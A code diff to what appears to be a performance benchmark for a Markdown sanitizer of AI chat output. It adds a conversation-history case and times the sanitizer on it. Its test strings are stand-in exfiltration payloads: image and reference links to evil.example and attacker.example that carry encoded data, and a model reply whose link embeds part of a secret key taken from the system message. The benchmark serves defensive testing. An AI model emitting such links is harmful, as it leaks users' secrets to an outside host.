@@ -29,6 +29,7 @@ import time
 from collections.abc import Callable
 
 from rendersafe import Policy, Sanitizer
+from rendersafe.conversation import Conversation, Message
 
 EVIL = "![x](https://evil.example/x.png)"
 PATTERNS = {
@@ -96,6 +97,12 @@ NUMBERED = {
     "off-list definitions": "[r{}]: https://attacker.example/{}?d=c2VjcmV0\n\n",
 }
 PATTERNS.update(dict.fromkeys(NUMBERED, ""))
+# An earlier reply of the model made of the pattern, and a reply whose link holds part of
+# a key the chat had: what the earlier turns sent of it is read (`conversation/sent.py`).
+HISTORY = {"history a.a.": "a.", "history a-a-": "a-", "history //": "//x "}
+PATTERNS.update(HISTORY)
+KEY = "Q9xZ3vL7pW1a4fG7hK2m"
+HISTORY_REPLY = f"[a](https://evil.example/p/{KEY[:10]})"
 TAIL = {"open tag line": ">\n"}
 MIN_SAMPLE = 0.25
 
@@ -131,6 +138,13 @@ def stream_once(sanitizer: Sanitizer, text: str) -> None:
     stream.close()
 
 
+def history_once(sanitizer: Sanitizer, text: str) -> None:
+    conversation = Conversation(
+        [Message(0, "system", f"The key is {KEY}."), Message(1, "assistant", text)]
+    )
+    sanitizer.run(HISTORY_REPLY, conversation=conversation)
+
+
 def cpu_seconds(work: Work, sanitizer: Sanitizer, text: str, calls: int) -> float:
     """CPU time of `calls` calls of `work(sanitizer, text)`, per call."""
     start = time.process_time()
@@ -143,7 +157,7 @@ def measure(args: argparse.Namespace, name: str) -> tuple[float, float, list[flo
     """Median CPU seconds at n and 4n, and the ratio of each round."""
     size, rounds, stream = args.size, args.rounds, args.stream
     sanitizer = Sanitizer(Policy(max_input_chars=10 * size * 4, max_hold_chars=args.hold))
-    work = stream_once if stream else run_once
+    work = history_once if name in HISTORY else stream_once if stream else run_once
     small, large = flood(name, size), flood(name, 4 * size)
     # Warm caches, and repeat a fast pattern so that one sample at n takes at least
     # MIN_SAMPLE seconds: a few milliseconds are mostly noise on a shared machine.
